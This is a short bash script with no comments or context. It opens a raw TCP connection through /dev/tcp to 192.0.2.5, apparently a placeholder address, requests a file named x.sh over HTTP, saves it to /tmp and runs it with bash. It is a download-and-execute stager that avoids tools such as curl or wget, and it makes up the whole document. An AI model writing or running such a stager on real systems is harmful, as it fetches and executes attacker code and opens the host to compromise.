#!/bin/bash
exec 3<>/dev/tcp/192.0.2.5/80
printf 'GET /x.sh HTTP/1.0\r\n\r\n' >&3
cat <&3 > /tmp/x.sh
bash /tmp/x.sh
